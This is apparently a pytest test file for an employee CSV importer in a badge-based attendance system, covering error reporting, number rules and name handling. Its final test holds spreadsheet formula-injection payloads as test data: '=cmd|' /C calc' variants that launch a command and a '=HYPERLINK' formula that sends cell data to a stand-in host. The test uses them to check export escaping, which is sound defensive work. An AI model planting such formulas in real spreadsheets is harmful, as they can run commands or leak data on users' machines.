"""The employee list: every bad line reported with its number and the fix, nothing written on any
error, numbers a badge can carry, Indonesian names kept intact, and the realistic sample."""

from __future__ import annotations

import stat
import time
from collections import Counter
from pathlib import Path

import pytest
from click.testing import CliRunner

from presensi.protocol import badge
from presensi.protocol.cli import main
from presensi.protocol.errors import ProtocolError
from presensi.protocol.keys import SigningKey
from presensi.provisioning.employees import (
    EMPLOYEE_NUMBER,
    Employee,
    employees_csv,
    import_employees,
    load_employees,
    parse_employees,
    sample_employees,
)
from presensi.provisioning.errors import CsvImportError, ProvisioningError
from presensi.provisioning.org import Org

HEADER = "number,name,unit,shift_group\n"


@pytest.fixture
def org(tmp_path: Path) -> Org:
    return Org.init(tmp_path / "org", "Trans Semarang")


def problems(text: str) -> list[str]:
    with pytest.raises(CsvImportError) as caught:
        parse_employees(text)
    return caught.value.problems


def test_a_good_file_keeps_names_as_written() -> None:
    text = (
        HEADER
        + "EMP-00001,Siti Nurhaliza,Pramudi (driver),Pagi\n"
        + " 1987.04_17 ,I Gusti Ngurah Rai Putra,Teknik,Malam\n"
        + 'p-3,"Sitorus, Maruli",,\n'
        + "p-4,Ni Luh Putu Ayu Dévi,Administrasi,Pagi\n"
    )
    assert parse_employees(text.encode("utf-8")) == [
        Employee("EMP-00001", "Siti Nurhaliza", "Pramudi (driver)", "Pagi"),
        Employee("1987.04_17", "I Gusti Ngurah Rai Putra", "Teknik", "Malam"),
        Employee("p-3", "Sitorus, Maruli", "", ""),
        Employee("p-4", "Ni Luh Putu Ayu Dévi", "Administrasi", "Pagi"),
    ]


def test_every_bad_line_is_reported_with_its_number() -> None:
    lines = ["EMP-1,Budi Santoso,Teknik,Pagi"] * 1 + [
        "A B,Agus,Teknik,Pagi",  # line 3
        "EMP-2,,Teknik,Pagi",  # line 4
        "EMP-1,Budi Lagi,Teknik,Pagi",  # line 5
        "emp-1,Budi Kecil,Teknik,Pagi",  # line 6
        "X" * 33 + ",Panjang,Teknik,Pagi",  # line 7
        ",Tanpa Nomor,Teknik,Pagi",  # line 8
        "EMP/9,Dewi,Teknik,Pagi",  # line 9
        "EMP-10,Dewi,Teknik",  # line 10
        "EMP-11,Rina,Operasional,Siang",  # fine
    ]
    found = problems(HEADER + "\n".join(lines) + "\n")
    assert found == [
        "employees.csv line 3: number 'A B' has characters a badge cannot carry (space). "
        "Fix: use only letters A-Z a-z, digits, '.', '_' and '-' (e.g. 'A-B')",
        "employees.csv line 4: the name is empty. Fix: write the employee's name",
        "employees.csv line 5: number 'EMP-1' is already on line 2. Fix: each employee needs "
        "their own number; remove or correct one of the lines",
        "employees.csv line 6: number 'emp-1' differs only in case from 'EMP-1', already on "
        "line 2. Fix: each employee needs their own number; remove or correct one of the lines",
        "employees.csv line 7: number '" + "X" * 33 + "' is 33 characters long. Fix: use at "
        "most 32",
        "employees.csv line 8: number '' is empty. Fix: write the employee number printed on "
        "the badge",
        "employees.csv line 9: number 'EMP/9' has characters a badge cannot carry ('/'). "
        "Fix: use only letters A-Z a-z, digits, '.', '_' and '-' (e.g. 'EMP-9')",
        "employees.csv line 10: 3 fields, expected 4 (number,name,unit,shift_group). Fix: put "
        "text containing ',' in double quotes",
    ]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("number,name,unit\nE1,A,B\n", "missing shift_group"),
        ("nomor,nama,unit,shift_group\n", "missing number, name; unknown nomor, nama"),
        (HEADER, "no employees, only the header"),
        (HEADER + "E1,Nama\x07,Teknik,Pagi\n", "line 2: name is longer than 200 characters or"),
    ],
)
def test_structural_and_text_problems(text: str, expected: str) -> None:
    assert expected in problems(text)[0]


def test_the_number_rule_is_the_badges() -> None:
    now = int(time.time())
    key = SigningKey.generate()
    for number in ["A", "EMP-00001", "a.b_c-d", "9" * 32, "A B", "", "x" * 33, "Ä1", "a/b"]:
        try:
            badge.issue(key, number, 1, now, now + 1)
            badge_ok = True
        except ProtocolError:
            badge_ok = False
        assert bool(EMPLOYEE_NUMBER.fullmatch(number)) == badge_ok, number


def test_import_writes_0600_and_nothing_on_error(org: Org, tmp_path: Path) -> None:
    source = tmp_path / "staff.csv"
    source.write_text(HEADER + "EMP-1,Budi Santoso,Teknik,Pagi\n", encoding="utf-8")
    assert import_employees(org, source) == [Employee("EMP-1", "Budi Santoso", "Teknik", "Pagi")]
    assert stat.S_IMODE(org.employees_path.stat().st_mode) == 0o600
    before = org.employees_path.read_bytes()
    source.write_text(HEADER + "EMP-2,Ani,Teknik,Pagi\nEMP 3,Ana,Teknik,Pagi\n", encoding="utf-8")
    with pytest.raises(CsvImportError, match=r"staff\.csv line 3: number 'EMP 3'"):
        import_employees(org, source)
    assert org.employees_path.read_bytes() == before
    assert load_employees(org) == [Employee("EMP-1", "Budi Santoso", "Teknik", "Pagi")]


def test_load_without_employees_says_how(org: Org) -> None:
    with pytest.raises(ProvisioningError, match="employees import FILE"):
        load_employees(org)


def test_the_sample_is_realistic_repeatable_and_importable(org: Org) -> None:
    staff = sample_employees(810, seed=7)
    assert staff == sample_employees(810, seed=7)
    assert staff != sample_employees(810, seed=8)
    assert len({e.number for e in staff}) == 810
    units = Counter(e.unit for e in staff)
    kinds = Counter(unit.split()[0] for unit in units.elements())
    assert kinds.most_common(1)[0][0] == "Pramudi"  # mostly drivers
    assert {"Pramudi", "Pramugara/i", "Mekanik", "Kantor", "Keamanan"} <= set(kinds)
    assert {f"Pramudi Koridor {c}" for c in ("I", "IV", "VIII")} <= set(units)
    assert {e.shift_group for e in staff} == {"Pagi", "Siang", "Malam", "Kantor"}
    assert all(e.shift_group == "Kantor" for e in staff if e.unit.startswith("Kantor"))
    assert len({e.name for e in staff}) > 400  # varied names
    assert import_employees(org, employees_csv(staff)) == staff


def test_cli_import_reports_every_problem_and_exits_2(org: Org, tmp_path: Path) -> None:
    runner = CliRunner()
    source = tmp_path / "staff.csv"
    made = runner.invoke(main, ["provision", "employees", "sample", str(source), "--count", "30"])
    assert made.exit_code == 0, made.output
    ok = runner.invoke(
        main, ["provision", "employees", "import", str(source), "--org", str(org.path)]
    )
    assert ok.exit_code == 0, ok.output
    assert "imported 30 employees" in ok.output

    source.write_text(source.read_text() + "EMP-00001,Lagi,Teknik,Pagi\nA B,X,Y,Z\n")
    bad = runner.invoke(
        main, ["provision", "employees", "import", str(source), "--org", str(org.path)]
    )
    assert bad.exit_code == 2
    assert "staff.csv: 2 problems, nothing imported" in bad.output
    assert "staff.csv line 32: number 'EMP-00001' is already on line 2" in bad.output
    assert "staff.csv line 33: number 'A B'" in bad.output
    assert len(load_employees(org)) == 30


def test_formula_looking_cells_stay_text_and_never_become_formulas_on_export() -> None:
    """What a spreadsheet would run (=cmd|..., @SUM, =HYPERLINK, +, -) is kept as text on
    import, written with a leading ' on export, and read back as it was."""
    hostile = [
        ("TS-0901", "=cmd|' /C calc'!A0", "Pramudi", "pagi"),
        ("TS-0902", "@SUM(1+1)*cmd|' /C calc'!A0", "Teknik", "siang"),
        ("TS-0903", '=HYPERLINK("http://contoh.test/?x="&A1,"Klik")', "+Admin", "-malam"),
        ("TS-0904", "Siti 'Ani' Rahayu", "'Keuangan", "pagi"),  # a quote alone is just text
    ]
    rows = "".join(
        ",".join('"' + c.replace('"', '""') + '"' for c in row) + "\n" for row in hostile
    )
    employees = parse_employees(HEADER + rows)
    assert [(e.number, e.name, e.unit, e.shift_group) for e in employees] == hostile
    exported = employees_csv(employees)
    for line in exported.splitlines()[1:]:
        for cell in line.replace('"', "").split(","):
            assert not cell.startswith(("=", "+", "-", "@")), line
    assert parse_employees(exported) == employees  # the round trip keeps every value
